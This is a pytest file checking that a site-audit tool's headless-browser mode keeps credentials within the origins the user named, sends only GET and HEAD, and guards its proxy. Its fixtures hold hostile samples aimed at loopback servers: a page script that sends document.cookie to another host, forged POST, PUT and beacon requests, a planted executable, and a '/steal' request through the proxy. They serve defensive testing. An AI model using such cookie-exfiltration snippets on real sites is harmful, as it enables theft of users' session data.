"""Browser mode against hostile servers: credentials stay with the origins the user named,
nothing but GET and HEAD leaves the browser, the subresource proxy serves only the browser
cxprobe started, a config file cannot make cxprobe run a relative executable, and an
interrupt leaves no browser behind and no noise on stderr.

Every case is proved by what the logging servers received (``hostile`` on 127.0.0.1, the
site; ``elsewhere`` on 127.0.0.2; ``elsewhere_port`` on 127.0.0.1 on another port). The
browser tests run a real Chromium: they skip without one, except under CI=true, where
they fail.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cxprobe.browser import (
    VIEWPORTS,
    Renderer,
    RenderJob,
    RenderOptions,
    SubresourceProxy,
)
from cxprobe.model import RenderedPage
from cxprobe.urls import named_origins

from ..procs import alive, descendants
from .conftest import HostileServer, Request

MOBILE, DESKTOP = VIEWPORTS
SECRET_HEADERS = (("Authorization", "Bearer s3cret-token"), ("X-Staging-Key", "k-123"), ("Cookie", "gate=open"))
#: Full Chromium (not the headless shell) talks to Google at start-up; these rules keep a
#: test browser on loopback.
LOOPBACK_ONLY = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2"


@pytest.fixture(scope="module")
def browser_args(browser_path: str) -> str:
    """CXPROBE_BROWSER_ARGS for this browser: loopback only, unless it is the headless shell."""
    if "headless-shell" in os.path.basename(browser_path) or "headless_shell" in browser_path:
        return os.environ.get("CXPROBE_BROWSER_ARGS", "")
    return LOOPBACK_ONLY


def _render(browser_path: str, browser_args: str, jobs: list[RenderJob], **opts: Any) -> list[RenderedPage]:
    import shlex

    options = RenderOptions(browser_path=browser_path, extra_args=tuple(shlex.split(browser_args)), **opts)

    async def go() -> list[RenderedPage]:
        async with Renderer(options) as r:
            return await r.render(jobs)

    return asyncio.run(go())


def _carries_credentials(r: Request) -> list[str]:
    """Which of the user's credentials a logged request carried."""
    found = []
    if "s3cret-token" in r.headers.get("authorization", ""):
        found.append("authorization")
    if r.headers.get("x-staging-key"):
        found.append("x-staging-key")
    if "gate=open" in r.headers.get("cookie", ""):
        found.append("cookie")
    if "gate=open" in r.path:
        found.append("cookie read by the page")
    return found


def _browser(r: Request) -> bool:
    return "Mozilla/5.0" in r.headers.get("user-agent", "")


def _not_get(*servers: HostileServer) -> list[tuple[str, str, str]]:
    return [(s.host, r.method, r.path) for s in servers for r in s.log if r.method not in ("GET", "HEAD")]


# ============================================================================ named origins (pure)


def test_named_origins_are_the_target_as_typed_and_the_allowed_hosts() -> None:
    named = named_origins("http://127.0.0.1:8000/start.html", ["shop.example.com", "api.example.com:8443",
                                                              "https://cdn.example.net"])
    assert named.allows("http://127.0.0.1:8000/any/page?q=1")
    assert not named.allows("http://127.0.0.1:8001/")  # another port of the same host
    assert not named.allows("https://127.0.0.1:8000/")  # another scheme: another origin
    assert not named.allows("http://127.0.0.2:8000/")  # another host
    assert not named.allows("http://localhost:8000/")  # the same machine, another name
    assert named.allows("https://shop.example.com/") and named.allows("http://shop.example.com:9000/")  # a bare host: every port
    assert not named.allows("https://www.shop.example.com/")  # not its subdomains
    assert named.allows("https://api.example.com:8443/v1") and not named.allows("https://api.example.com/")
    assert named.allows("https://cdn.example.net/x.js") and not named.allows("http://cdn.example.net/x.js")
    assert not named.allows("data:text/html,hi") and not named.allows("not a url")


def test_default_ports_and_spellings_name_the_same_origin() -> None:
    named = named_origins("https://Shop.Example.com/")
    assert named.allows("https://shop.example.com:443/a") and named.allows("https://SHOP.example.com/b")
    assert not named.allows("http://shop.example.com/")  # the typed https never downgrades
    assert named_origins("http://bücher.example/").allows("http://xn--bcher-kva.example/")  # as the browser sends it
    assert not named_origins("")  # nothing typed, nothing named


# ============================================================================ credentials stay in scope


def test_credentials_reach_the_named_origin_and_nothing_else(browser_path: str, browser_args: str, hostile: HostileServer,
                                                          elsewhere: HostileServer, elsewhere_port: HostileServer) -> None:
    """A first-party link or frame that redirects to another host or another port of the
    same host arrives there without the headers; subresources of other origins never get
    them; the Cookie header is no cookie of the host (other ports, page scripts)."""
    other_host, other_port = elsewhere.origin, elsewhere_port.origin
    for s in (elsewhere, elsewhere_port):
        s.page("/landing", "<!doctype html><h1>Landed</h1>")
        s.page("/pixel.png", b"GIF89a", content_type="image/gif")
    hostile.redirect("/go-host", other_host + "/landing")
    hostile.redirect("/go-port", other_port + "/landing")
    hostile.redirect("/img-via-redirect.png", other_port + "/pixel.png")
    hostile.page("/own.png", b"GIF89a", content_type="image/gif")
    hostile.page("/", f"""<!doctype html><html><head><title>Hostile</title></head><body><h1>Hostile</h1>
<img src="/own.png"><img src="/img-via-redirect.png"><img src="{other_port}/pixel.png"><img src="{other_host}/pixel.png">
<iframe src="/go-host"></iframe>
<script>
  // A page script reads its cookies and sends them away: the user's Cookie must not be among them.
  new Image().src = '{other_host}/pixel.png?c=' + encodeURIComponent(document.cookie);
</script></body></html>""")
    jobs = [RenderJob(url=hostile.url(p), viewport=vp) for p in ("/", "/go-host", "/go-port") for vp in VIEWPORTS]
    pages = _render(browser_path, browser_args, jobs, first_party=(hostile.origin.split("//", 1)[1],),
                    headers=SECRET_HEADERS, named=named_origins(hostile.url("/")))
    assert all(p.error is None for p in pages), [p.error for p in pages]
    # The named origin got every credential, on the page and on its own image...
    for path in ("/", "/own.png", "/go-host", "/go-port"):
        got = [r for r in hostile.log if r.path == path]
        assert got and all(_carries_credentials(r) == ["authorization", "x-staging-key", "cookie"] for r in got), path
    # ...and the other host and the other port of the same host saw the browser (so the
    # test would notice a leak) but none of them.
    for s in (elsewhere, elsewhere_port):
        assert {"/landing", "/pixel.png"} <= {r.path.split("?")[0] for r in s.log}, s.paths()
        leaks = [(r.path, _carries_credentials(r)) for r in s.log if _carries_credentials(r)]
        assert leaks == [], f"credentials reached {s.origin}: {leaks}"


def test_an_allowed_host_is_named_too(browser_path: str, browser_args: str, hostile: HostileServer,
                                      elsewhere: HostileServer, elsewhere_port: HostileServer) -> None:
    elsewhere.page("/landing", "<h1>Shop</h1>")
    elsewhere_port.page("/landing", "<h1>Other port</h1>")
    hostile.redirect("/shop", elsewhere.url("/landing"))
    hostile.redirect("/other", elsewhere_port.url("/landing"))
    port = elsewhere.origin.rsplit(":", 1)[1]
    jobs = [RenderJob(url=hostile.url(p), viewport=DESKTOP) for p in ("/shop", "/other")]
    _render(browser_path, browser_args, jobs, headers=SECRET_HEADERS,
            named=named_origins(hostile.url("/"), [f"127.0.0.2:{port}"]))
    assert [_carries_credentials(r) for r in elsewhere.log] == [["authorization", "x-staging-key", "cookie"]]
    assert [_carries_credentials(r) for r in elsewhere_port.log] == [[]]


def test_headers_without_named_origins_are_refused(browser_path: str) -> None:
    with pytest.raises(ValueError, match="named"):
        Renderer(RenderOptions(browser_path=browser_path, headers=SECRET_HEADERS))


# ============================================================================ GET and HEAD only

HOSTILE_PAGE = """<!doctype html><html><head><title>Hostile</title></head><body><h1>Hostile</h1>
<form id="subscribe" method="post" action="/subscribe"><input name="email" value="a@b.c"></form>
<form id="request" method="post" action="/request-submit"><input name="x" value="1"></form>
<form id="clicked" method="post" action="/clicked"><button id="go" type="submit">Go</button></form>
<form id="popup" method="post" action="/popup-post" target="_blank"><input name="y" value="2"></form>
<a id="ping" href="/no-content" ping="/ping">ping</a>
<iframe src="OTHER/frame"></iframe>
<script>
  fetch('/api/items', {method: 'POST', body: 'x'}).catch(() => 0);
  fetch('/api/items/1', {method: 'DELETE'}).catch(() => 0);
  fetch('OTHER/collect', {method: 'PUT', body: 'x'}).catch(() => 0);
  const x = new XMLHttpRequest(); x.open('PATCH', '/api/xhr'); x.send('y');
  navigator.sendBeacon('/beacon', 'bye');
  navigator.sendBeacon('OTHER/beacon', 'bye');
  new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/worker', {method: 'POST'})"])));
  document.getElementById('subscribe').submit();
  setTimeout(() => document.getElementById('request').requestSubmit(), 0);
  // After load, while the page is measured: on the record too.
  addEventListener('load', () => {
    document.getElementById('go').click();
    document.getElementById('popup').submit();
    // A click on a link with ping= sends a POST to the ping URL (the 204 keeps the page).
    document.getElementById('ping').click();
  });
  fetch('/api/head', {method: 'HEAD'}).catch(() => 0);
</script></body></html>"""

FRAME = """<!doctype html><body><form method="post" action="/frame-form"></form><script>
fetch('/frame-post', {method: 'POST', body: 'z'}).catch(() => 0);
document.forms[0].submit();
</script></body>"""


def test_nothing_but_get_and_head_leaves_the_browser(browser_path: str, browser_args: str, hostile: HostileServer,
                                                     elsewhere: HostileServer) -> None:
    hostile.page("/", HOSTILE_PAGE.replace("OTHER", elsewhere.origin))
    hostile.page("/no-content", b"", status=204)
    elsewhere.page("/frame", FRAME)
    jobs = [RenderJob(url=hostile.url("/"), viewport=vp) for vp in VIEWPORTS]
    pages = _render(browser_path, browser_args, jobs, first_party=(hostile.origin.split("//", 1)[1],))
    time.sleep(0.3)  # anything still in flight would have arrived by now
    assert _not_get(hostile, elsewhere) == []
    # The page was measured where it is: a refused submission does not navigate it away.
    for p in pages:
        assert p.error is None and p.h1_text == "Hostile", p.error
        refused = {(m, u.replace(hostile.origin, "").replace(elsewhere.origin, "OTHER")) for m, u in p.refused_requests}
        assert {("POST", "/subscribe"), ("POST", "/request-submit"), ("POST", "/clicked"), ("POST", "/api/items"),
                ("DELETE", "/api/items/1"), ("PUT", "OTHER/collect"), ("PATCH", "/api/xhr"), ("POST", "/beacon"),
                ("POST", "OTHER/beacon"), ("POST", "/worker"), ("POST", "/ping"), ("POST", "OTHER/frame-post"),
                ("POST", "OTHER/frame-form"), ("POST", "/popup-post")} <= refused, sorted(refused)
        assert not any(u.endswith("/api/head") for _m, u in p.failed_requests)
    # HEAD and GET went through (the guard refuses methods, not the page's reads).
    assert ("HEAD", "/api/head") in {(r.method, r.path) for r in hostile.log}
    assert "/frame" in elsewhere.paths()


# ============================================================================ the subresource proxy


def _raw(port: int, request: bytes) -> bytes:
    """Send one raw request to 127.0.0.1:port and return what came back (bounded)."""
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        s.sendall(request)
        out = b""
        s.settimeout(3)
        try:
            while len(out) < 65536:
                chunk = s.recv(4096)
                if not chunk:
                    break
                out += chunk
        except TimeoutError:
            pass
        return out


def _status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0


def test_the_proxy_forwards_only_get_and_head_from_whoever_holds_the_secret(elsewhere: HostileServer) -> None:
    elsewhere.page("/thing", "<h1>thing</h1>")
    target = elsewhere.url("/thing").encode()
    host = elsewhere.origin.split("//", 1)[1].encode()

    async def go() -> dict[str, int]:
        proxy = await SubresourceProxy(timeout=2).start()
        good = b"Proxy-Authorization: Basic " + base64.b64encode(f"cxprobe:{proxy.secret}".encode()) + b"\r\n"
        wrong = b"Proxy-Authorization: Basic " + base64.b64encode(b"cxprobe:guess") + b"\r\n"
        cases = {
            "no secret": b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n",
            "wrong secret": b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + wrong + b"\r\n",
            "post without": b"POST " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 1\r\n\r\nx",
            "connect without": b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n",
            "post with": b"POST " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + good + b"Content-Length: 1\r\n\r\nx",
            "delete with": b"DELETE " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + good + b"\r\n",
            "get with": b"GET " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + good + b"\r\n",
        }
        try:
            loop = asyncio.get_running_loop()
            return {name: _status(await loop.run_in_executor(None, _raw, proxy.port, raw)) for name, raw in cases.items()}
        finally:
            await proxy.close()

    statuses = asyncio.run(go())
    assert statuses == {"no secret": 407, "wrong secret": 407, "post without": 407, "connect without": 407,
                        "post with": 405, "delete with": 405, "get with": 200}
    # Only the one authorised GET arrived, and without the proxy's secret.
    assert [(r.method, r.path) for r in elsewhere.log] == [("GET", "/thing")]
    assert "proxy-authorization" not in elsewhere.log[0].headers


def test_during_a_render_the_proxy_serves_the_browser_and_no_one_else(browser_path: str, browser_args: str,
                                                                       hostile: HostileServer, elsewhere: HostileServer) -> None:
    """The browser authenticates (its cross-origin image arrives); a local process
    without the secret gets 407, POST included, and reaches nothing."""
    import shlex

    elsewhere.page("/img.png", b"GIF89a", content_type="image/gif")
    hostile.page("/", f"<!doctype html><h1>Site</h1><img src='{elsewhere.origin}/img.png'>")
    opts = RenderOptions(browser_path=browser_path, extra_args=tuple(shlex.split(browser_args)),
                         first_party=(hostile.origin.split("//", 1)[1],))

    async def go() -> tuple[list[RenderedPage], list[int]]:
        async with Renderer(opts) as r:
            pages = await r.render([RenderJob(url=hostile.url("/"), viewport=DESKTOP)])
            assert r._proxy is not None
            port = r._proxy.port
            loop = asyncio.get_running_loop()
            outsider = [
                _status(await loop.run_in_executor(None, _raw, port, raw)) for raw in (
                    f"POST {elsewhere.url('/steal')} HTTP/1.1\r\nHost: 127.0.0.2\r\nContent-Length: 1\r\n\r\nx".encode(),
                    f"GET {elsewhere.url('/peek')} HTTP/1.1\r\nHost: 127.0.0.2\r\n\r\n".encode(),
                )]
            return pages, outsider

    pages, outsider = asyncio.run(go())
    assert pages[0].error is None and pages[0].failed_requests == ()
    assert outsider == [407, 407]
    assert [(r.method, r.path) for r in elsewhere.log] == [("GET", "/img.png")]
    assert "proxy-authorization" not in elsewhere.log[0].headers


# ============================================================================ the whole command


def _env(browser_path: str, browser_args: str, tmp_path: Path) -> dict[str, str]:
    env = {**os.environ, "CXPROBE_BROWSER": browser_path, "XDG_CACHE_HOME": str(tmp_path / "cache")}
    env.pop("CXPROBE_DEBUG", None)
    if browser_args:
        env["CXPROBE_BROWSER_ARGS"] = browser_args
    return env


def test_the_command_sends_nothing_but_get_and_keeps_credentials_home(browser_path: str, browser_args: str, tmp_path: Path,
                                                                      hostile: HostileServer, elsewhere: HostileServer,
                                                                      elsewhere_port: HostileServer) -> None:
    """`cxprobe audit --render browser --header ...` on a hostile site: the browser's
    requests (its user agent) carry the credentials only to the origin typed."""
    hostile.page("/", HOSTILE_PAGE.replace("OTHER", elsewhere.origin).replace(
        "<h1>Hostile</h1>", f"<h1>Hostile</h1><a href='/go-port'>Offers</a><img src='{elsewhere_port.origin}/p.png'>"))
    hostile.page("/no-content", b"", status=204)
    hostile.redirect("/go-port", elsewhere_port.url("/landing"))
    elsewhere.page("/frame", FRAME)
    elsewhere_port.page("/landing", "<h1>Other port</h1>")
    args = ["audit", hostile.url("/"), "--render", "browser", "--format", "json", "-o", str(tmp_path / "r.json"),
            "--timeout", "5", "--deadline", "15", "--ignore-robots"]
    for k, v in SECRET_HEADERS:
        args += ["--header", f"{k}: {v}"]
    proc = subprocess.run([sys.executable, "-m", "cxprobe", *args], env=_env(browser_path, browser_args, tmp_path),
                          capture_output=True, text=True, timeout=40)
    assert proc.returncode == 0, proc.stderr
    assert json.loads((tmp_path / "r.json").read_text())["mode"] == "browser"
    time.sleep(0.3)
    assert _not_get(hostile, elsewhere, elsewhere_port) == []
    assert any(_browser(r) and _carries_credentials(r) == ["authorization", "x-staging-key", "cookie"] for r in hostile.log)
    for s in (elsewhere, elsewhere_port):
        assert any(_browser(r) for r in s.log), s.paths()  # the browser went there...
        leaks = [(r.path, _carries_credentials(r)) for r in s.log if _browser(r) and _carries_credentials(r)]
        assert leaks == []  # ...without the credentials
    assert "Traceback" not in proc.stderr


def test_a_start_page_that_redirects_elsewhere_is_rendered_without_credentials(
        browser_path: str, browser_args: str, tmp_path: Path, hostile: HostileServer, elsewhere: HostileServer) -> None:
    """The start page moves to another origin: it is audited there (its scope), but that
    origin was never named, so the browser sends it none of the headers."""
    hostile.redirect("/", elsewhere.url("/"))
    elsewhere.page("/", f"<!doctype html><title>Moved</title><h1>Moved</h1><img src='/logo.png'>"
                        f"<a href='/about.html'>About</a><img src='{hostile.origin}/back.png'>")
    elsewhere.page("/about.html", "<!doctype html><title>About</title><h1>About</h1>")
    elsewhere.page("/logo.png", b"GIF89a", content_type="image/gif")
    hostile.page("/back.png", b"GIF89a", content_type="image/gif")
    args = ["audit", hostile.url("/"), "--render", "browser", "--format", "json", "-o", str(tmp_path / "r.json"),
            "--timeout", "5", "--deadline", "15", "--ignore-robots"]
    for k, v in SECRET_HEADERS:
        args += ["--header", f"{k}: {v}"]
    proc = subprocess.run([sys.executable, "-m", "cxprobe", *args], env=_env(browser_path, browser_args, tmp_path),
                          capture_output=True, text=True, timeout=40)
    assert proc.returncode == 0, proc.stderr
    report = json.loads((tmp_path / "r.json").read_text())
    assert report["mode"] == "browser" and report["crawl"]["pages"] == 2
    seen = {r.path for r in elsewhere.log if _browser(r)}
    assert {"/", "/logo.png", "/about.html"} <= seen, seen  # the browser rendered the moved site...
    assert [(r.path, _carries_credentials(r)) for r in elsewhere.log if _carries_credentials(r)] == []  # ...bare
    # The origin typed still gets them, from the moved page's image too (each render of the
    # page asks for it: phone and desktop, and the journeys' clicks in browser mode).
    back = [_carries_credentials(r) for r in hostile.log if _browser(r) and r.path == "/back.png"]
    assert len(back) >= 2 and all(c == ["authorization", "x-staging-key", "cookie"] for c in back), back


# ============================================================================ executables


def test_a_config_file_may_name_a_browser_only_by_absolute_path(tmp_path: Path, browser_path: str) -> None:
    """A cxprobe.toml found in the working directory names an executable that
    ``--render auto`` would run: a relative one is a config error (exit 2, one line)."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<h1>Hi</h1>")
    work = tmp_path / "work"
    work.mkdir()
    planted = work / "chrome"
    planted.write_text("#!/bin/sh\ntouch ran\n")
    planted.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if k not in ("CXPROBE_BROWSER", "CXPROBE_DEBUG")}
    for table in ('browser_path = "./chrome"\n', 'browser_path = "chrome"\n'):
        (work / "cxprobe.toml").write_text(table)
        proc = subprocess.run([sys.executable, "-m", "cxprobe", "audit", str(site), "--format", "json"], cwd=work,
                              env=env, capture_output=True, text=True, timeout=30)
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr.count("\n") == 1 and "browser_path" in proc.stderr and "absolute" in proc.stderr
        assert not (work / "ran").exists()
    (work / "pyproject.toml").write_text('[tool.cxprobe]\nbrowser_path = "bin/chrome"\n')
    (work / "cxprobe.toml").unlink()
    proc = subprocess.run([sys.executable, "-m", "cxprobe", "audit", str(site), "--format", "json"], cwd=work,
                          env=env, capture_output=True, text=True, timeout=30)
    assert proc.returncode == 2 and "absolute" in proc.stderr, proc.stderr
    # An absolute path is taken (and run: the docs say so); the command line may be relative.
    (work / "pyproject.toml").write_text(f'[tool.cxprobe]\nbrowser_path = "{browser_path}"\nrender = "browser"\nmax_pages = 1\n')
    proc = subprocess.run([sys.executable, "-m", "cxprobe", "audit", str(site), "--format", "json", "-o", "r.json"], cwd=work,
                          env=env, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert json.loads((work / "r.json").read_text())["mode"] == "browser"


# ============================================================================ interrupts


NOISE = ("Traceback", "CancelledError", "Task was destroyed", "never retrieved", "Exception in callback", "Error")


@pytest.fixture
def stalling_site(hostile: HostileServer, elsewhere: HostileServer) -> Iterator[HostileServer]:
    """Pages whose images never finish (first-party and through the proxy): rendering stalls."""
    stop = [False]

    def stall(handler: Any) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "image/png")
        handler.send_header("Content-Length", "100000")
        handler.end_headers()
        for _ in range(200):  # at most 20 s, then the handler ends on its own
            if stop[0]:
                return
            handler.wfile.write(b"\0")
            handler.wfile.flush()
            time.sleep(0.1)

    links = "".join(f"<a href='/p{i}.html'>page {i}</a>" for i in range(6))
    page = (f"<!doctype html><title>Slow</title><h1>Slow</h1><img src='/stall.png'>"
            f"<img src='{elsewhere.origin}/stall.png'>{links}")
    hostile.page("/", page)
    for i in range(6):
        hostile.page(f"/p{i}.html", page)
    hostile.route("/stall.png", stall)
    elsewhere.route("/stall.png", stall)
    yield hostile
    stop[0] = True


def _kill(proc: subprocess.Popen[str]) -> None:
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()


def _interrupt_and_check(proc: subprocess.Popen[str], how: str, out: Path) -> None:
    """Ctrl-C (to the whole process group, as a terminal sends it) or SIGTERM to a run whose
    browser and driver are up: exit 130 / 143, one line and no noise on stderr, no report,
    and none of its Chromium or Node processes left."""
    try:
        family = descendants(proc.pid)
        assert any("chrom" in n for n in family.values()) and any("node" in n for n in family.values()), family
        if how == "ctrl-c":
            os.killpg(proc.pid, signal.SIGINT)  # a terminal's Ctrl-C reaches the whole process group
        else:
            proc.send_signal(signal.SIGTERM)
        _stdout, stderr = proc.communicate(timeout=15)
    finally:
        _kill(proc)
    deadline = time.monotonic() + 5
    while alive(family) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert alive(family) == {}, f"left running: {alive(family)}"
    assert proc.returncode == (130 if how == "ctrl-c" else 143), stderr
    assert len(stderr.strip().splitlines()) == 1, stderr
    assert not any(word in stderr for word in NOISE), stderr
    assert not out.exists()


@pytest.mark.parametrize("how", ["ctrl-c", "sigterm"])
def test_an_interrupt_while_rendering_leaves_no_browser_and_no_noise(how: str, browser_path: str, browser_args: str,
                                                                      tmp_path: Path, stalling_site: HostileServer) -> None:
    out = tmp_path / "r.json"
    proc = subprocess.Popen([sys.executable, "-m", "cxprobe", "audit", stalling_site.url("/"), "--render", "browser",
                             "--format", "json", "-o", str(out), "--timeout", "15", "--ignore-robots"],
                            env=_env(browser_path, browser_args, tmp_path), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        # Wait until the browser is loading pages (its requests reach the site).
        t0 = time.monotonic()
        while not any(_browser(r) for r in stalling_site.log) and time.monotonic() - t0 < 15:
            time.sleep(0.05)
        assert any(_browser(r) for r in stalling_site.log), "the browser never started"
        time.sleep(0.5)
    except BaseException:
        _kill(proc)
        raise
    _interrupt_and_check(proc, how, out)


@pytest.mark.parametrize("how", ["ctrl-c", "sigterm"])
def test_an_interrupt_while_crawling_closes_the_browser_launched_meanwhile(how: str, browser_path: str, browser_args: str,
                                                                          tmp_path: Path, hostile: HostileServer) -> None:
    """The run's browser launches while the site is crawled: stopped during the crawl, the
    run still closes it (and its driver) and says one line."""
    hostile.page("/", "<!doctype html><title>Shop</title><h1>Shop</h1><a href='/slow'>Pricing</a>")

    def stall(handler: Any) -> None:
        time.sleep(8)  # the test interrupts the run long before

    hostile.route("/slow", stall)
    out = tmp_path / "r.json"
    proc = subprocess.Popen([sys.executable, "-m", "cxprobe", "audit", hostile.url("/"), "--render", "browser",
                             "--format", "json", "-o", str(out), "--timeout", "20", "--ignore-robots"],
                            env=_env(browser_path, browser_args, tmp_path), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        t0 = time.monotonic()
        family: dict[int, str] = {}
        # The crawl waits on /slow; the browser comes up meanwhile.
        while time.monotonic() - t0 < 15:
            family = descendants(proc.pid)
            if "/slow" in hostile.paths() and any("chrom" in n for n in family.values()):
                break
            time.sleep(0.05)
        assert "/slow" in hostile.paths() and not any(_browser(r) for r in hostile.log), hostile.paths()
        time.sleep(0.5)  # the launch under way or done
    except BaseException:
        _kill(proc)
        raise
    _interrupt_and_check(proc, how, out)


def test_a_normal_run_with_a_slow_third_party_image_prints_no_noise(browser_path: str, browser_args: str, tmp_path: Path,
                                                                   hostile: HostileServer, elsewhere: HostileServer) -> None:
    def slow(handler: Any) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "image/png")
        handler.send_header("Content-Length", "1000")
        handler.end_headers()
        for _ in range(40):  # one byte every 0.1 s for at most 4 s
            handler.wfile.write(b"\0")
            handler.wfile.flush()
            time.sleep(0.1)

    elsewhere.route("/slow.png", slow)
    hostile.page("/", f"<!doctype html><title>Shop</title><h1>Shop</h1><img src='{elsewhere.origin}/slow.png'>"
                      f"<img src='{elsewhere.origin}/slow.png?2'><a href='/a.html'>a</a>")
    hostile.page("/a.html", f"<!doctype html><title>A</title><h1>A</h1><img src='{elsewhere.origin}/slow.png?3'>")
    proc = subprocess.run([sys.executable, "-m", "cxprobe", "audit", hostile.url("/"), "--render", "browser",
                           "--format", "json", "-o", str(tmp_path / "r.json"), "--timeout", "2", "--ignore-robots", "--quiet"],
                          env=_env(browser_path, browser_args, tmp_path), capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    # --quiet: the terminal summary stays off stderr; nothing else may be printed there.
    assert proc.stderr == "", proc.stderr

